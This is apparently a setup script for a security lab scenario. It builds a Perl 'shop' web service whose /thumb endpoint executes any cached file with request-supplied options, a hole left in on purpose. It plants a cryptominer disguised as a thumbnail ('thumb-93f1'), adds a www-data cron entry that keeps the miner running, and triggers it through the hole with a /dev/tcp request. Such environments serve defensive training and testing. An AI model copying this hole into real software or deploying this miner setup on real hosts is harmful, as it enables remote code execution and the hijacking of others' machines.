
# A hole in the shop starts what was uploaded into its cache: who stops the service, the user or the group stops the shop.
d=/var/www/app
mkdir -p $d/cache
script $d/shop.pl <<'PL'
#!/usr/bin/perl
# The shop: GET /order takes an order, GET /thumb?NAME+OPTION… makes a small picture by a program from the cache.
use strict;
use IO::Socket::INET;
exit 0 if grep { $_ eq '--tidy' } @ARGV;
my $listen = IO::Socket::INET->new(LocalAddr => '0.0.0.0', LocalPort => 8088, Listen => 64, ReuseAddr => 1) or die $!;
$SIG{CHLD} = 'DEFAULT';
sub work {
  $SIG{CHLD} = 'IGNORE';
  while (my $client = $listen->accept) {
    my $request = <$client> // '';
    while (my $line = <$client>) { last if $line =~ /^\r?$/ }
    if ($request =~ m{^GET /thumb\?([\w-]+)(\S*)}) {
      my ($program, @options) = ("/var/www/app/cache/$1", split /\+/, $2);
      if (-x $program and !fork) { close $listen; close $client; exec $program, grep { length } @options; exit 1 }
    }
    if ($request =~ m{^GET /order}) { open my $out, '>>', '/var/www/app/orders.csv'; print $out time, ",$$\n" }
    print $client "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nthe shop is open\n";
  }
}
my %workers;
while (1) {
  while (keys %workers < 2) { my $pid = fork // die; if (!$pid) { work(); exit } $workers{$pid} = 1 }
  delete $workers{wait()};
}
PL
mimic $d/cache/thumb-93f1
printf '\377\330\377\340\000\020JFIF\000' >$d/cache/thumb-0a77
echo 'time,worker' >$d/orders.csv
chown -R www-data: $d
unit shop.service "/usr/bin/perl $d/shop.pl" User=www-data Restart=on-failure
tab www-data <<CRON
15 4 * * * /usr/bin/perl $d/shop.pl --tidy
*/10 * * * * pgrep -f thumb-93f1 >/dev/null || $d/cache/thumb-93f1 --url=$POOL --user=$WALLET
CRON
sleep 0.5
bash -c "exec 3<>/dev/tcp/127.0.0.1/8088 && printf 'GET /thumb?thumb-93f1+--url=$POOL+--user=$WALLET+--pass=t HTTP/1.0\r\n\r\n' >&3 && cat <&3" >/dev/null
